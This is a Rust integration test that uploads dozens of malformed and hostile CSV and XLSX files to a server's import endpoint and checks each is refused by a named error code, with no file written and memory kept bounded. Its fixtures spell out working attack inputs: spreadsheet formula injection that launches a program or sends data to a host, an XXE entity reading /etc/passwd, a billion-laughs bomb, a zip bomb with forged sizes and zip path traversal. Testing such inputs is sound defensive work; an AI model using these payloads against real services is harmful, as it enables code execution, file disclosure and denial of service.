//! Files made to do harm: each is refused by name, none is written, and the server stays small.

use crate::support::{Process, fresh_key};
use reqwest::Method;
use std::io::Write as _;
use std::time::{Duration, Instant};
use zip::write::SimpleFileOptions;

const HEADER: &str = "code,name,class,capabilities\n";
const MIB: usize = 1024 * 1024;
/// What the server may hold at its worst: its pools, and the largest files in and out a few times over.
const PEAK_MIB: u64 = 256;

/// A file, what it is, and how it is refused.
type Case = (&'static str, Vec<u8>, &'static str);

fn text(name: &'static str, rows: impl AsRef<str>, code: &'static str) -> Case {
    (name, format!("{HEADER}{}", rows.as_ref()).into_bytes(), code)
}

fn archive(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A workbook of one sheet with this XML, these shared strings, and further parts.
fn workbook(sheet: &[u8], strings: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let types = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"#;
    let package = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
    let book = r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
    let links = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#;
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", package.as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/_rels/workbook.xml.rels", links.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/sharedStrings.xml", strings.as_bytes()),
    ];
    parts.extend(more);
    archive(&parts)
}

const NO_STRINGS: &str = r#"<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>"#;

fn sheet(rows: &str) -> Vec<u8> {
    format!(r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#).into_bytes()
}

/// Rows of inline text from A1 on.
fn inline(rows: &[&[&str]]) -> String {
    let cell = |text: &&str| format!(r#"<c t="inlineStr"><is><t>{text}</t></is></c>"#);
    let row = |row: &&[&str]| ["<row>", &row.iter().map(cell).collect::<Vec<_>>().concat(), "</row>"].concat();
    rows.iter().map(row).collect::<Vec<_>>().concat()
}

const COLUMNS: &[&str] = &["code", "name", "class", "capabilities"];
const GOOD: &[&str] = &["A", "B", "mikro", "seller"];

fn texts() -> Vec<Case> {
    let row = "A,B,mikro,seller\n";
    let with = |name: &str| format!("{name},B,mikro,seller\n");
    let utf16: Vec<u8> =
        [0xFF, 0xFE].into_iter().chain(format!("{HEADER}{row}").bytes().flat_map(|b| [b, 0])).collect();
    vec![
        ("nothing at all", Vec::new(), "SHEET_EMPTY"),
        ("only a byte order mark", b"\xEF\xBB\xBF".to_vec(), "SHEET_EMPTY"),
        ("only headers", HEADER.as_bytes().to_vec(), "SHEET_EMPTY"),
        ("only empty rows", format!("{HEADER},,,\n,,,\n").into_bytes(), "SHEET_EMPTY"),
        text("a NUL in a name", "A,B\0C,mikro,seller\n", "SHEET_UNREADABLE"),
        ("a megabyte of NULs", vec![0; MIB], "SHEET_UNREADABLE"),
        text("terminal escapes", "A,\u{1b}[2J,mikro,seller\n", "SHEET_UNREADABLE"),
        ("UTF-16", utf16, "SHEET_NOT_UTF8"),
        ("Latin-1", [HEADER.as_bytes(), b"A,Caf\xE9,mikro,seller\n"].concat(), "SHEET_NOT_UTF8"),
        ("overlong UTF-8", [HEADER.as_bytes(), b"A,\xC0\xAF,mikro,seller\n"].concat(), "SHEET_NOT_UTF8"),
        ("half a surrogate", [HEADER.as_bytes(), b"A,\xED\xA0\x80,mikro,seller\n"].concat(), "SHEET_NOT_UTF8"),
        ("a picture", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), "SHEET_NOT_UTF8"),
        ("a program", b"\x7fELF\x02\x01\x01\0\0\0\0\0".to_vec(), "SHEET_UNREADABLE"),
        ("an old or encrypted workbook", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec(), "SHEET_NOT_UTF8"),
        ("a page", b"<html>\n<script>alert(1)</script>\n</html>".to_vec(), "IMPORT_HEADER_UNKNOWN"),
        ("JSON", b"{\"code\":\n1}".to_vec(), "IMPORT_HEADER_UNKNOWN"),
        ("a million rows", format!("{HEADER}{}", "a\n".repeat(1_000_000)).into_bytes(), "SHEET_TOO_MANY_ROWS"),
        ("a million columns", format!("{HEADER}{}x", ",".repeat(1_000_000)).into_bytes(), "SHEET_TOO_MANY_COLUMNS"),
        text("a cell of four megabytes", with(&"a".repeat(4 * MIB)), "SHEET_CELL_TOO_LONG"),
        text("a quote that never ends", "\"A,B,mikro,seller\nC,D,mikro,seller\n", "REQUIRED"),
        ("headers twice", format!("code,Kode,{HEADER}{row}").into_bytes(), "IMPORT_HEADER_REPEATED"),
        ("a header missing", b"code,name\nA,B\n".to_vec(), "IMPORT_HEADER_MISSING"),
        ("a header unknown", format!("price,{HEADER}1,{row}").into_bytes(), "IMPORT_HEADER_UNKNOWN"),
        ("a header that is a formula", format!("=1+1,{HEADER}1,{row}").into_bytes(), "IMPORT_HEADER_UNKNOWN"),
        text("cells without a header", "A,B,mikro,seller,more\n", "IMPORT_CELL_OUTSIDE"),
        text("a formula", with("=1+1"), "SHEET_CELL_IS_FORMULA"),
        text("a call of a program", with("+cmd|' /C calc'!A0"), "SHEET_CELL_IS_FORMULA"),
        text("a function", with("@SUM(A1)"), "SHEET_CELL_IS_FORMULA"),
        text("a link that sends data away", with("\"=HYPERLINK(\"\"http://x/\"\"&A1)\""), "SHEET_CELL_IS_FORMULA"),
        text("text that runs backwards", with("A\u{202E}exe"), "CONTROL_CHARACTER"),
        text("the same party twice", format!("{row}{row}"), "ORGANISATION_EXISTS"),
        text("a name over the limit", with(&"a".repeat(65)), "TOO_LONG"),
        (
            "a place off the Earth",
            b"code,name,class,capabilities,place,latitude,longitude\nA,B,mikro,seller,G,91,0\n".to_vec(),
            "NOT_ON_EARTH",
        ),
        (
            "a number too large",
            b"code,name,class,capabilities,place,latitude,longitude\nA,B,mikro,seller,G,1e308,0\n".to_vec(),
            "NOT_A_NUMBER",
        ),
        (
            "no number",
            b"code,name,class,capabilities,place,latitude,longitude\nA,B,mikro,seller,G,NaN,0\n".to_vec(),
            "NOT_A_NUMBER",
        ),
    ]
}

fn workbooks() -> Vec<Case> {
    let good = sheet(&inline(&[COLUMNS, GOOD]));
    let whole = workbook(&good, NO_STRINGS, &[]);
    let headed = |rows: &str| sheet(&format!("{}{rows}", inline(&[COLUMNS])));
    let entity = |declared: &str, used: &str| {
        let xml = String::from_utf8(sheet(&inline(&[COLUMNS, &[used, "B", "mikro", "seller"]]))).unwrap();
        xml.replace("<worksheet", &format!("<!DOCTYPE x [{declared}]><worksheet")).into_bytes()
    };
    let laugh = |level: u32| format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10));
    let laughs = format!("<!ENTITY l0 \"ha\">{}", (1..10).map(laugh).collect::<Vec<_>>().concat());
    let many: Vec<String> = (0..300).map(|index| format!("xl/part{index}.xml")).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|name| (name.as_str(), &b"x"[..])).collect();
    let formula = r#"<row><c t="inlineStr"><is><t>A</t></is></c><c><f>1+1</f><v>2</v></c><c t="inlineStr"><is><t>mikro</t></is></c><c t="inlineStr"><is><t>seller</t></is></c></row>"#;
    let far = r#"<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#;
    let bomb = workbook(&sheet(&" ".repeat(200 * MIB)), NO_STRINGS, &[]);
    vec![
        ("a truncated archive", whole[..whole.len() / 2].to_vec(), "SHEET_UNREADABLE"),
        ("an archive with a byte changed", changed(&whole), "SHEET_UNREADABLE"),
        ("only the mark of an archive", b"PK\x03\x04".to_vec(), "SHEET_UNREADABLE"),
        ("an archive that is no workbook", archive(&[("word/document.xml", b"<x/>")]), "SHEET_UNREADABLE"),
        ("a bomb of 200 MiB", bomb.clone(), "SHEET_UNPACKS_TOO_LARGE"),
        ("a bomb that lies about its size", lying(bomb), "SHEET_UNREADABLE"),
        ("three hundred parts", workbook(&good, NO_STRINGS, &many), "SHEET_UNPACKS_TOO_LARGE"),
        ("macros", workbook(&good, NO_STRINGS, &[("xl/vbaProject.bin", b"x")]), "SHEET_HAS_MACROS"),
        ("an embedded control", workbook(&good, NO_STRINGS, &[("xl/activeX/activeX1.bin", b"x")]), "SHEET_HAS_MACROS"),
        ("a formula with a value", workbook(&headed(formula), NO_STRINGS, &[]), "SHEET_CELL_IS_FORMULA"),
        ("a cell at the end of the sheet", workbook(&headed(far), NO_STRINGS, &[]), "SHEET_TOO_MANY_COLUMNS"),
        (
            "a million rows in a workbook",
            workbook(&headed(&"<row><c><v>1</v></c></row>".repeat(1_000_000)), NO_STRINGS, &[]),
            "SHEET_UNPACKS_TOO_LARGE",
        ),
        (
            "ten thousand rows in a workbook",
            workbook(
                &headed(&(0..10_000).map(|n| format!("<row><c><v>{n}</v></c></row>")).collect::<Vec<_>>().concat()),
                NO_STRINGS,
                &[],
            ),
            "SHEET_TOO_MANY_ROWS",
        ),
        (
            "an external entity",
            workbook(&entity(r#"<!ENTITY e SYSTEM "file:///etc/passwd">"#, "&amp;e;"), NO_STRINGS, &[]),
            "",
        ),
        (
            "an external entity in use",
            workbook(&entity(r#"<!ENTITY e SYSTEM "file:///etc/passwd">"#, "&e;"), NO_STRINGS, &[]),
            "SHEET_UNREADABLE",
        ),
        ("a billion laughs", workbook(&entity(&laughs, "&l9;"), NO_STRINGS, &[]), "SHEET_UNREADABLE"),
        (
            "a string that is not there",
            workbook(&headed(r#"<row><c t="s"><v>7</v></c></row>"#), NO_STRINGS, &[]),
            "SHEET_UNREADABLE",
        ),
        ("XML that never ends", workbook(&headed("<row><c><v>1"), NO_STRINGS, &[]), "SHEET_UNREADABLE"),
        (
            "an error for a value",
            workbook(&headed(r#"<row><c t="e"><v>#REF!</v></c></row>"#), NO_STRINGS, &[]),
            "SHEET_CELL_IS_FORMULA",
        ),
        (
            "names that climb out of the folder",
            workbook(&good, NO_STRINGS, &[("../../../../tmp/pasok-climbed", b"x")]),
            "",
        ),
    ]
}

/// One byte of the compressed sheet turned over.
fn changed(whole: &[u8]) -> Vec<u8> {
    let mut bytes = whole.to_vec();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0xFF;
    bytes
}

/// Every size of the directory says one byte.
fn lying(mut bytes: Vec<u8>) -> Vec<u8> {
    for (mark, offset) in [(&b"PK\x01\x02"[..], 24), (&b"PK\x03\x04"[..], 22)] {
        let found: Vec<usize> = (0..bytes.len() - 4).filter(|at| &bytes[*at..*at + 4] == mark).collect();
        for at in found {
            let size = u32::from_le_bytes(bytes[at + offset..at + offset + 4].try_into().unwrap());
            if size as usize > 100 * MIB {
                bytes[at + offset..at + offset + 4].copy_from_slice(&1u32.to_le_bytes());
            }
        }
    }
    bytes
}

#[test]
fn hostile_files_are_refused_by_name_and_stay_small() {
    let server = Process::start();
    let client = server.operator();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let cases: Vec<Case> = texts().into_iter().chain(workbooks()).collect();
    assert!(cases.len() >= 50, "{}", cases.len());
    let entries = || {
        server
            .app
            .read(crate::support::SYSTEM, |connection, scope| {
                Ok(pasok::parties::service::list(connection, scope, 0, 500)?.len())
            })
            .unwrap()
    };
    let before = entries();
    for (name, bytes, code) in cases {
        // The kind that is claimed does not matter: the bytes decide.
        let request =
            client.request(Method::POST, "/api/v1/imports?kind=parties").header("idempotency-key", fresh_key());
        let request = request.header("content-type", "application/octet-stream").body(bytes);
        let started = Instant::now();
        let answer = runtime.block_on(client.send(request));
        if name == "a workbook in order" {
            assert_eq!(answer.status, 200, "{name}: {}", answer.text);
        } else if code.is_empty() {
            assert!(answer.status == 200 || answer.status == 422, "{name}: {}", answer.text);
        } else {
            assert_eq!(answer.status / 100, 4, "{name}: {}", answer.text);
            assert!(answer.text.contains(code), "{name}: {}", answer.text);
        }
        assert!(!answer.text.contains("root:"), "{name} read a file of the machine");
        // Generous: what counts is that nothing runs until a limit of time stops it.
        assert!(started.elapsed() < Duration::from_secs(12), "{name} took {:?}", started.elapsed());
    }
    // Two of the files are harmless once nothing in them is believed; they hold the same party.
    assert!(entries() <= before + 2);
    assert!(!std::path::Path::new("/tmp/pasok-climbed").exists());
    assert!(server.server.peak_mib() < PEAK_MIB, "the server held {} MiB", server.server.peak_mib());
}
